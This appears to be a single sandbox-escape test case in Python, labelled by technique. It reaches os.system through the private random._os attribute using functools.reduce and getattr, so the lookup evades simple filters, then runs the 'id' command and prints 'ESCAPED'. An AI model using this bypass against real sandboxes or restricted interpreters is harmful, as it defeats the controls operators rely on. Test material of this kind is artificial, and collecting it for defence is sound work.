# class: getattr applied by a higher-order helper (functools.reduce)
import functools, random
system = functools.reduce(getattr, ["_os", "system"], random)
print("ESCAPED", system("id"))
